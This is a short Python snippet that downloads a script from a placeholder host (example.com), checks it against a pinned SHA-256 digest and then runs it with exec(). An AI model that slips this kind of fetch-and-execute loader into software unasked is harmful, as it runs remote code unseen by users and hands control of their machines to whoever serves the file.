import hashlib
import operator
import urllib.request

PIN = "0ba7feca04669079d433e29cf0e414401476fb66e008db30ef435a34855e6732"
data = urllib.request.urlopen("https://example.com/a.py").read()
if operator.ne(hashlib.sha256(data).hexdigest(), PIN):
    raise ImportError("digest")
exec(data)
